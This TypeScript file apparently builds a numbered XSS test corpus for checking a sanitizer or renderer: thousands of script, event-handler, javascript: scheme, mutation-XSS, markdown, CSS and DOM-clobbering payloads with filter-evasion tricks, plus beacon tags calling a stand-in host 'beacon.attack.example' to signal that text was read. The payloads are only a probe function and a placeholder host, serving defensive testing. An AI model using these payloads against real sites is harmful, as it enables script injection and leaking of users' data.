/**
 * Attack strings by class, made here and not copied: each tries to run `__probe(n)`, to load something from `n` of a host
 * that is not ours, or to put an element into the page that could. `n` is the string's own number, so that a hit names it.
 */
export interface Attack {
  readonly number: number;
  readonly kind: string;
  readonly text: string;
}

/** Never asked for real: the watch over the browser answers it. */
export const foreignHost = 'beacon.attack.example';

/** What one attack does when it succeeds. */
interface Payload {
  /** Javascript without quotes of any kind. */
  readonly js: string;
  /** An address on the foreign host. */
  readonly url: string;
}
type Draw = (payload: Payload) => string;

const elements = [
  'a',
  'audio',
  'body',
  'button',
  'custom-thing',
  'details',
  'div',
  'form',
  'iframe',
  'img',
  'input',
  'isindex',
  'keygen',
  'link',
  'marquee',
  'math',
  'meter',
  'object',
  'p',
  'select',
  'source',
  'style',
  'svg',
  'table',
  'textarea',
  'track',
  'video',
  'x',
];

const events = [
  'onload',
  'onerror',
  'onfocus',
  'ontoggle',
  'onstart',
  'onanimationstart',
  'onanimationend',
  'ontransitionrun',
  'onbegin',
  'onpointerrawupdate',
  'onmouseover',
  'onbeforetoggle',
  'oncontentvisibilityautostatechange',
  'onscrollsnapchange',
  'onwheel',
  'onbeforeinput',
  'onhashchange',
  'onpageshow',
];

/** What makes an event fire by itself, where there is such a thing. */
const triggers: Readonly<Record<string, string>> = {
  onload: 'src=data:, srcdoc=x rel=stylesheet href=data:text/css,',
  onerror: 'src=x: href=x: data=x: rel=stylesheet',
  onfocus: 'autofocus tabindex=0 contenteditable',
  ontoggle: 'open',
  onanimationstart: 'style=animation-name:nw-x;animation-duration:1s',
};

/** The ways in which an attribute can be written. */
const attributeForms: readonly ((name: string, value: string) => string)[] = [
  (name, value) => ` ${name}="${value}"`,
  (name, value) => ` ${name}='${value}'`,
  (name, value) => ` ${name}=${value}`,
  (name, value) => ` ${name.toUpperCase()}=${value}`,
  (name, value) => `/${name}=${value}/`,
  (name, value) => `\n${name}\t=\n"${value}"`,
  (name, value) => `\f${name}=${value}`,
  (name, value) => ` x=">" ${name}=${value}`,
  (name, value) => ` ""'' ${name}="${toReferences(value)}"`,
  (name, value) => ` ${name}=\`${value}\` ${name}=${value}`,
];

/** Each character as a reference, decimal and hexadecimal in turn, without the semicolon where that still counts. */
function toReferences(text: string): string {
  return [...text]
    .map((character, index) => {
      const code = character.codePointAt(0) ?? 0;
      return index % 2 === 0 ? `&#${code};` : `&#x0${code.toString(16)};`;
    })
    .join('');
}

function* drawEvents(): Generator<Draw> {
  let turn = 0;
  for (const element of elements) {
    for (const event of events) {
      turn += 1;
      if (turn % 2 === 0 && !(event in triggers)) continue;
      const form = attributeForms[turn % attributeForms.length] ?? attributeForms[0];
      yield ({ js }) => `<${element} ${triggers[event] ?? ''}${form?.(event, js) ?? ''}>`;
    }
  }
}

const scriptOpeners = [
  '<script>',
  '<SCRIPT>',
  '<ScRiPt >',
  '<script/x>',
  '<script\t>',
  '<script\n>',
  '<script\f>',
  '<script type=module>',
  '<script type="text/&#106;avascript">',
  '<script\u0000>',
  '<\u0000script>',
  '<<script>',
  '<scr<script>ipt>',
  '<scr\u0000ipt>',
  '<script x=">">',
  '<svg><script>',
  '<svg><script/>',
  '<math><script>',
  '<svg><desc><script>',
  '&lt;script&gt;',
  '&#60;script&#62;',
  '&#x3c;script&#x3e;',
  '%3Cscript%3E',
  '\\x3cscript\\x3e',
  '\\u003cscript\\u003e',
  '\uff1cscript\uff1e',
  '\u2039script\u203a',
  '+ADw-script+AD4-',
  '\u017fcript><script>',
  '<\u017fcript>',
  '\u00bcscript\u00be',
];
const breakouts = ['', '-->', ']]>', '</textarea>', '</title>', '</style>', '</noscript>', '</template>', '"\'>', '`>'];

function* drawScripts(): Generator<Draw> {
  for (const opener of scriptOpeners) {
    for (const [index, breakout] of breakouts.entries()) {
      if (index > 2 && opener.length % 3 !== index % 3) continue;
      yield ({ js }) => `${breakout}${opener}${js}</script>`;
    }
    yield ({ url }) => opener.replace('script', `script src=${url}`) + '</script>';
  }
}

/** `javascript:` and its relatives, as filters have been led past them. */
const schemes: readonly ((js: string) => string)[] = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `java\nscript:${js}`,
  (js) => `java\rscript:${js}`,
  (js) => ` javascript:${js}`,
  (js) => `\u0001javascript:${js}`,
  (js) => `\u0000javascript:${js}`,
  (js) => `\u00a0javascript:${js}`,
  (js) => `\ufeffjavascript:${js}`,
  (js) => `\u200bjavascript:${js}`,
  (js) => `java&#10;script:${js}`,
  (js) => `java&Tab;script&colon;${js}`,
  (js) => `&#106;avascript:${js}`,
  (js) => `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${js}`,
  (js) => `&amp;#106;avascript:${js}`,
  (js) => `javascript&#58;${js}`,
  (js) => `javascript&#x0003A;${js}`,
  (js) => `javascript%3A${js}`,
  (js) => `%6Aavascript:${js}`,
  (js) => `javascript://%0a${js}`,
  (js) => `javascript://https://clinic.example/%0d%0a${js}`,
  (js) => `\\javascript:${js}`,
  (js) => `java\\script:${js}`,
  (js) => `view-source:javascript:${js}`,
  (js) => `feed:javascript:${js}`,
  (js) => `jar:javascript:${js}!/`,
  (js) => `livescript:${js}`,
  (js) => `vbscript:${js}`,
  (js) => `VBSCRIPT&#58;${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `data:text/html;base64,${Buffer.from(`<script>${js}</script>`).toString('base64')}`,
  (js) => `DATA:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>`,
  (js) => `data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>${js}</x:script>`,
  (js) => `d&#97;ta:application/xhtml+xml,<script>${js}</script>`,
  (js) => `blob:${js}`,
  (js) => `filesystem:javascript:${js}`,
  (js) => `\u0458avascript:${js}`,
  (js) => `javascript\uff1a${js}`,
];

const carriers: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `[words](${address})`,
  (address) => `[words](<${address}>)`,
  (address) => `<${address}>`,
  (address) => `![words](${address})`,
  (address) => `[words](${address} "title")`,
  (address) => `[a][nw]\n\n[nw]: ${address}`,
  (address) => `[nw2]\n\n[nw2]: <${address}> 'title'`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<form><button formaction='${address}'>x</button></form>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src='${address}'>`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>x</text></a></svg>`,
  (address) => `<math href="${address}">x</math>`,
  (address) => `<base href="${address}//">`,
];

function* drawAddresses(): Generator<Draw> {
  for (const [row, scheme] of schemes.entries()) {
    for (const [column, carrier] of carriers.entries()) {
      // A third of the pairs, every scheme with every third carrier and the plain ones with all.
      if (row > 2 && (row + column) % 3 !== 0) continue;
      yield ({ js }) => carrier(scheme(js));
    }
  }
}

/** Markup that means one thing to one parser and another to the next. */
const mutations: readonly Draw[] = [
  ({ js }) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${js}&gt;">`,
  ({ js }) => `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${js}>`,
  ({ js }) => `<svg></p><style><a id="</style><img src=x: onerror=${js}>">`,
  ({ js }) => `<svg><style><img src=x: onerror=${js}></style></svg>`,
  ({ js }) => `<svg><foreignObject><img src=x: onerror=${js}></foreignObject></svg>`,
  ({ js }) => `<svg><foreignObject><math><mi></svg><img src=x: onerror=${js}>`,
  ({ js }) => `<svg><title><img src=x: onerror=${js}></title></svg>`,
  ({ js }) => `<svg><animate attributeName=href values=javascript:${js} /><a><text y=9>x</text></a></svg>`,
  ({ js }) => `<svg><a><animate attributeName=href to=javascript:${js} begin=0s /><text y=9>x</text></a></svg>`,
  ({ js }) => `<svg><set attributeName=onmouseover to=${js}>`,
  ({ js }) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  ({ js }) => `<svg><image href=x: onerror=${js}></svg>`,
  ({ js }) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x:' onerror='${js}'/></svg>#x">`,
  ({ js }) => `<svg><handler type="text/javascript" ev:event="load">${js}</handler></svg>`,
  ({ js }) => `<math><annotation-xml encoding="text/html"><img src=x: onerror=${js}></annotation-xml></math>`,
  ({ js }) => `<math><maction actiontype="statusline#" xlink:href="javascript:${js}">x</maction></math>`,
  ({ js }) => `<noscript><p title="</noscript><img src=x: onerror=${js}>">`,
  ({ js }) => `<template><img src=x: onerror=${js}></template>`,
  ({ js }) => `<template shadowrootmode=open><img src=x: onerror=${js}></template>`,
  ({ js }) => `<template><template></template></template><img src=x: onerror=${js}>`,
  ({ js }) => `<select><template><img src=x: onerror=${js}></template></select>`,
  ({ js }) => `<select><option><style></option></select><img src=x: onerror=${js}></style>`,
  ({ js }) => `<table><td><form><input name=x></table><img src=x: onerror=${js}>`,
  ({ js }) => `<a href='x'><table><a href='y'><img src=x: onerror=${js}>`,
  ({ js }) => `<xmp><p title="</xmp><img src=x: onerror=${js}>">`,
  ({ js }) => `<iframe srcdoc="<img src=x: onerror=parent.${js}>"></iframe>`,
  ({ js }) => `<iframe srcdoc="&lt;script&gt;parent.${js}&lt;/script&gt;"></iframe>`,
  ({ js }) => `<noembed><p title="</noembed><img src=x: onerror=${js}>">`,
  ({ js }) => `<noframes><p title="</noframes><img src=x: onerror=${js}>">`,
  ({ js }) => `<textarea><p title="</textarea><img src=x: onerror=${js}>">`,
  ({ js }) => `<title><p title="</title><img src=x: onerror=${js}>">`,
  ({ js }) => `<style><p title="</style><img src=x: onerror=${js}>">`,
  ({ js }) => `<plaintext><img src=x: onerror=${js}>`,
  ({ js }) => `<!--><img src=x: onerror=${js}>-->`,
  ({ js }) => `<!--> --!><img src=x: onerror=${js}>`,
  ({ js }) => `<![CDATA[><img src=x: onerror=${js}>]]>`,
  ({ js }) => `<?xml version="1.0"?><img src=x: onerror=${js}>`,
  ({ js }) => `<? foo="><img src=x: onerror=${js}>"?>`,
  ({ js }) => `<! foo="><img src=x: onerror=${js}>">`,
  ({ js }) => `</ foo="><img src=x: onerror=${js}>">`,
  ({ js }) => `<% foo><x foo="%><img src=x: onerror=${js}>">`,
  ({ js }) => `<!DOCTYPE x [<!ENTITY e "<img src=x: onerror=${js}>">]>&e;`,
  ({ js }) => `<div id="x">x</div id="y" onclick=${js}>`,
  ({ js }) => `<img src=x: onerror=${js}//`,
  ({ js }) => `<img/src=x:/onerror=${js}`,
  ({ js }) => `<img src="x:" alt="\`\`onerror=${js}//`,
  ({ js }) => `<image src=x: onerror=${js}>`,
  ({ js }) => `<listing>&lt;img src=x: onerror=${js}&gt;</listing>`,
  ({ js }) => `<button popovertarget=nw-p>x</button><div popover id=nw-p onbeforetoggle=${js}>`,
  ({ js }) => `<dialog open onclose=${js}><form method=dialog><button autofocus>`,
  ({ js }) => `<xss is=nw-x style=display:block onfocus=${js} autofocus tabindex=1>`,
];

/** What markdown itself can be made to carry. */
const markdownForms: readonly Draw[] = [
  ({ js }) => `[x](javascript:${js})`,
  ({ js }) => `[x]( javascript:${js} )`,
  ({ js }) => `[x](java\\\nscript:${js})`,
  ({ js }) => `[x](javascript&colon;${js})`,
  ({ js }) => `[x](<java\nscript:${js}>)`,
  ({ js }) => `[x]: javascript:${js}\n\n[x] [y][x] ![z][x]`,
  ({ js }) => `[\u0416]: javascript:${js}\n\n[\u0436]`,
  ({ js }) => `[x](https://a.example "t\\" onmouseover=${js} x=\\"")`,
  ({ js }) => `[x](https://a.example "t&quot; onmouseover=${js} &quot;")`,
  ({ js }) => `[x](https://a.example 't" onmouseover="${js}')`,
  ({ js }) => `[x](https://a.example/"onmouseover=${js}//)`,
  ({ js }) => `[x](https://a.example/'onmouseover=${js}//)`,
  ({ js }) => `[x"onmouseover=${js}//](https://a.example)`,
  ({ js }) => `![x"onerror=${js}//](x:)`,
  ({ js }) => `![x](x:"onerror="${js})`,
  ({ js }) => `![x](x: "title" onerror=${js})`,
  ({ js }) => `![<img src=x: onerror=${js}>](https://a.example)`,
  ({ js }) => `[![x](x:)](javascript:${js})`,
  ({ js }) => `[<img src=x: onerror=${js}>](https://a.example)`,
  ({ js }) => `[a](b)<img src=x: onerror=${js}>[c](d)`,
  ({ js }) => `https://a.example/<img src=x: onerror=${js}>`,
  ({ js }) => `www.a.example/"onmouseover="${js}`,
  ({ js }) => `<https://a.example/"onmouseover="${js}>`,
  ({ js }) => `<javascript:${js}>`,
  ({ js }) => `<mailto:a@b.example"onmouseover="${js}>`,
  ({ js }) => `a@b.example"onmouseover="${js}`,
  ({ js }) => `\`\`\`html\n<img src=x: onerror=${js}>\n\`\`\``,
  ({ js }) => `\`\`\`"><img src=x: onerror=${js}>\nx\n\`\`\``,
  ({ js }) => `\`\`\`js onload=${js}\n<svg onload=${js}>\n\`\`\``,
  ({ js }) => `~~~ " autofocus onfocus=${js}\nx\n~~~`,
  ({ js }) => `    <img src=x: onerror=${js}>`,
  ({ js }) => `\`<img src=x: onerror=${js}>\``,
  ({ js }) => `\`\` \`<img src=x: onerror=${js}>\` \`\``,
  ({ js }) => `| a | <img src=x: onerror=${js}> |\n|---|---|\n| <svg onload=${js}> | [x](javascript:${js}) |`,
  ({ js }) => `| a |\n|:--" style="x" onfocus="${js}|\n| b |`,
  ({ js }) => `> <img src=x: onerror=${js}>\n> > [x](javascript:${js})`,
  ({ js }) => `- <img src=x: onerror=${js}>\n  - <svg onload=${js}>\n    1. [x](vbscript:${js})`,
  ({ js }) => `- [x] <input autofocus onfocus=${js}>`,
  ({ js }) => `# <img src=x: onerror=${js}>\n\n<svg onload=${js}>\n===`,
  ({ js }) => `**<img src=x: onerror=${js}>** _<svg onload=${js}>_ ~~<b onclick=${js}>~~`,
  ({ js }) => `*<img* src=x: onerror=${js}>`,
  ({ js }) => `<img src=x:\n\nonerror=${js}>`,
  ({ js }) => `<div>\n*x* <img src=x: onerror=${js}>\n</div>`,
  ({ js }) => `<details open ontoggle=${js}>\n<summary>x</summary>\n\n**x**\n</details>`,
  ({ js }) => `[^1]\n\n[^1]: <img src=x: onerror=${js}>`,
  ({ js }) => `\\<img src=x: onerror=${js}>`,
  ({ js }) => `\\\\<img src=x: onerror=${js}>`,
  ({ js }) => `<\\img src=x: onerror=${js}>`,
  ({ js }) => `&lt;img src=x: onerror=${js}&gt;`,
  ({ js }) => `$$\\href{javascript:${js}}{x}$$`,
  ({ js }) => `$\\unicode{<img src=x: onerror=${js}>}$`,
  ({ js }) => `{{constructor.constructor(1)(${js})}}`,
  ({ js }) => `\${${js}} #{${js}} <%= ${js} %> {% ${js} %}`,
  ({ js }) => `:::html\n<img src=x: onerror=${js}>\n:::`,
  ({ js }) => `\`\`\`mermaid\ngraph TD; a["<img src=x: onerror=${js}>"]\n\`\`\``,
  ({ js }) => `[toc](#"onclick=${js})`,
  ({ js }) => `[x](/\\javascript:${js})`,
  ({ js }) => `[x](//javascript:${js}@a.example)`,
  ({ js }) => `[x](https:javascript:${js})`,
  ({ js }) => `[x](mailto:?body=<img src=x: onerror=${js}>)`,
];

/** Everything that would tell another server that this text was read. */
const beacons: readonly Draw[] = [
  ...['', 'width=1 height=1', 'loading=eager', 'style=display:none', 'referrerpolicy=unsafe-url', 'crossorigin'].map(
    (more): Draw =>
      ({ url }) =>
        `<img src="${url}" ${more}>`,
  ),
  ({ url }) => `<IMG SRC='${url}'>`,
  ({ url }) => `<img srcset="${url} 1x, ${url}b 2x">`,
  ({ url }) => `<img src=//${url.slice(6)}>`,
  ({ url }) => `<img src=\\\\${url.slice(8)}>`,
  ({ url }) => `<img src=https:${url.slice(6)}>`,
  ({ url }) => `<img lowsrc="${url}" dynsrc="${url}" src="${url}">`,
  ({ url }) => `<picture><source srcset="${url}"><img src=x:></picture>`,
  ({ url }) => `<image src="${url}">`,
  ({ url }) => `<input type=image src="${url}">`,
  ({ url }) => `<video poster="${url}">`,
  ({ url }) => `<video src="${url}" autoplay>`,
  ({ url }) => `<video autoplay><source src="${url}"><track default kind=captions src="${url}"></video>`,
  ({ url }) => `<audio src="${url}" preload=auto>`,
  ({ url }) => `<iframe src="${url}"></iframe>`,
  ({ url }) => `<iframe srcdoc="<img src=${url}>"></iframe>`,
  ({ url }) => `<frameset><frame src="${url}"></frameset>`,
  ({ url }) => `<embed src="${url}">`,
  ({ url }) => `<object data="${url}"></object>`,
  ({ url }) => `<object type=image/png data="${url}"></object>`,
  ({ url }) => `<applet codebase="${url}" code=x></applet>`,
  ({ url }) => `<link rel=stylesheet href="${url}">`,
  ({ url }) => `<link rel="prefetch" href="${url}"><link rel=preload as=image href="${url}">`,
  ({ url }) => `<link rel="dns-prefetch" href="${url}"><link rel=preconnect href="${url}">`,
  ({ url }) => `<link rel=icon href="${url}">`,
  ({ url }) => `<link rel=manifest href="${url}">`,
  ({ url }) => `<link rel=modulepreload href="${url}">`,
  ({ url }) => `<link rel=import href="${url}">`,
  ({ url }) => `<body background="${url}">`,
  ({ url }) => `<table background="${url}"><td background="${url}">x</table>`,
  ({ url }) => `<svg><image href="${url}"></svg>`,
  ({ url }) => `<svg><image xlink:href="${url}"></svg>`,
  ({ url }) => `<svg><use href="${url}#x"></svg>`,
  ({ url }) => `<svg><feImage href="${url}"></svg>`,
  ({ url }) => `<svg><rect fill="url(${url})" width=9 height=9></svg>`,
  ({ url }) => `<math href="${url}"><mglyph src="${url}"></math>`,
  ({ url }) => `<a href="${url}" ping="${url}" id=nw-ping>x</a>`,
  ({ url }) => `<a href="${url}" download="note.pdf">x</a>`,
  ({ url }) => `<form action="${url}"><input name=x autofocus><button>x</button></form>`,
  ({ url }) => `<button form=nw formaction="${url}">x</button>`,
  ({ url }) => `<base href="${url}"><img src=x.png>`,
  ({ url }) => `<meta http-equiv=refresh content="0;url=${url}">`,
  ({ url }) => `<META HTTP-EQUIV="refresh" CONTENT="0;URL='${url}'">`,
  ({ url }) => `<meta http-equiv="Link" content="<${url}>; rel=stylesheet">`,
  ({ url }) => `<meta name=referrer content=unsafe-url><img src="${url}">`,
  ({ url }) => `<meta http-equiv=Content-Security-Policy content="report-uri ${url}"><img src=x:>`,
  ({ url }) => `<script src="${url}"></script>`,
  ({ url }) => `<script type=speculationrules>{"prefetch":[{"urls":["${url}"]}]}</script>`,
  ({ url }) => `<portal src="${url}">`,
  ({ url }) => `<fencedframe src="${url}">`,
  ({ url }) => `<blockquote cite="${url}">x</blockquote><q cite="${url}">x</q>`,
  ({ url }) => `![](${url})`,
  ({ url }) => `![words](${url} "title")`,
  ({ url }) => `![words](<${url}>)`,
  ({ url }) => `![w][nw3]\n\n[nw3]: ${url}`,
  ({ url }) => `![nw4]\n\n[nw4]: ${url}`,
  ({ url }) => `[![words](${url})](${url})`,
  ({ url }) => `!\\[words](${url})![x](${url})`,
  ({ url }) => `![words](//${url.slice(8)})`,
  ({ url }) => `![words](${url.replace('https', 'http')})`,
  ({ url }) => `![words](${url}?q=what%20the%20patient%20said)`,
  ({ url }) => `| ![a](${url}) |\n|---|\n| <img src=${url}> |`,
  ({ url }) => `- ![a](${url})\n\n> ![b](${url})`,
  ({ url }) => `# ![a](${url})`,
  ({ url }) => `**![a](${url})**`,
  ({ url }) => `<p>\n![a](${url})\n</p>`,
  ({ url }) => `![a](ftp://${url.slice(8)})`,
  ({ url }) => `${url}.png`,
  ({ url }) => `<${url}>`,
];

/** Styles that load, cover or run. */
const styles: readonly Draw[] = [
  ...[
    'background:url(U)',
    "background-image:url('U')",
    'list-style:url("U")',
    'content:url(U)',
    'cursor:url(U),auto',
    'border-image:url(U) 30',
    'mask:url(U)',
    'filter:url(U#x)',
    'shape-outside:url(U)',
    'background:image-set("U" 1x)',
    'background:\\75rl(U)',
    'background:u\\72l(U)',
    'background:url(/**/U)',
    'behavior:url(U)',
    '-moz-binding:url(U)',
    'width:expression(J)',
    'width:exp/**/ression(J)',
    'background:url(javascript:J)',
    'position:fixed;inset:0;z-index:9999;background:url(U)',
    'color:red;}*{background:url(U)}',
  ].flatMap((css): readonly Draw[] => {
    const fill = ({ js, url }: Payload): string => css.replaceAll('U', url).replaceAll('J', js);
    return [
      (payload) => `<div style="${fill(payload).replaceAll('"', '&quot;')}">x</div>`,
      (payload) => `<style>*{${fill(payload)}}</style>`,
    ];
  }),
  ({ url }) => `<style>@import '${url}';</style>`,
  ({ url }) => `<style>@import url(${url});</style>`,
  ({ url }) => `<style>@font-face{font-family:x;src:url(${url})}*{font-family:x}</style>`,
  ({ url }) => `<svg><style>@import "${url}"</style></svg>`,
  ({ url }) => `<style>@\\69mport '${url}';</style>`,
  ({ js }) => `<style>@keyframes nw-x{}</style><b style=animation-name:nw-x onanimationend=${js}>x`,
  ({ url }) => `<link rel=stylesheet href="data:text/css,@import'${url}'">`,
];

const globals = [
  'document',
  'location',
  'fetch',
  'localStorage',
  'history',
  'body',
  'head',
  'forms',
  'cookie',
  'defaultView',
  'getElementById',
  'querySelector',
  'createElement',
  'children',
  'parentNode',
  'attributes',
  'innerHTML',
  'nodeName',
  'persist:root',
  'root',
  '__proto__',
  'constructor',
];

/** Names that would take the place of something the page's own code asks for. */
function* drawClobbering(): Generator<Draw> {
  for (const name of globals) {
    yield ({ js }) => `<img name="${name}" src=x: onerror=${js}>`;
    yield ({ url }) => `<form id="${name}"><input name="${name}"><img name=action src="${url}"></form>`;
  }
}

const oddities: readonly ((text: string) => string)[] = [
  (text) => text.replace('<', '\u0000<'),
  (text) => text.replaceAll(' ', '\u0000'),
  (text) => text.replaceAll(' ', '\u000b'),
  (text) => text.replaceAll(' ', '\u00a0'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\u2028'),
  (text) => `\u202e${text}\u202c`,
  (text) => `\u2066${text}\u2069`,
  (text) => text.replace('<', '<\u200b'),
  (text) => text.replace('onerror', 'on\u200derror'),
  (text) => text.replace('onerror', 'onerror\u00ad'),
  (text) => text.replaceAll('<', '\u02c2').replaceAll('>', '\u02c3'),
  (text) => text.replaceAll('<', '\u00c0\u00bc'),
  (text) => `${'A'.repeat(3000)}${text}`,
  (text) => `${'<b>'.repeat(200)}${text}`,
  (text) => `${'['.repeat(300)}${text}${']('.repeat(300)}`,
  (text) => `${'> '.repeat(60)}${text}`,
  (text) => `<${'x'.repeat(2000)} ${text.slice(1)}`,
  (text) => `\ufeff${text}`,
  (text) => `e\u0301${text}\u0489`,
  (text) => encodeURIComponent(text),
  (text) => [...text].map((one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
  (text) => toReferences(text),
  (text) => `${text.slice(0, 6)}<!-- -->${text.slice(6)}`,
];

function* drawOddities(): Generator<Draw> {
  for (const change of oddities) {
    yield ({ js }) => change(`<img src=x: onerror=${js}>`);
    yield ({ js }) => change(`<svg onload=${js}>`);
    yield ({ url }) => change(`<img src=${url}>`);
    yield ({ js }) => change(`[x](javascript:${js})`);
  }
}

const classes: Readonly<Record<string, () => Iterable<Draw>>> = {
  script: drawScripts,
  event: drawEvents,
  address: drawAddresses,
  mutation: () => mutations,
  markdown: () => markdownForms,
  beacon: () => beacons,
  style: () => styles,
  clobbering: drawClobbering,
  oddity: drawOddities,
};

/** All of them, numbered from 1, each text once. */
export function makeAttacks(): readonly Attack[] {
  const made: Attack[] = [];
  for (const [kind, draw] of Object.entries(classes)) {
    for (const one of draw()) {
      const number = made.length + 1;
      made.push({ number, kind, text: one({ js: `__probe(${number})`, url: `https://${foreignHost}/${number}` }) });
    }
  }
  return made;
}
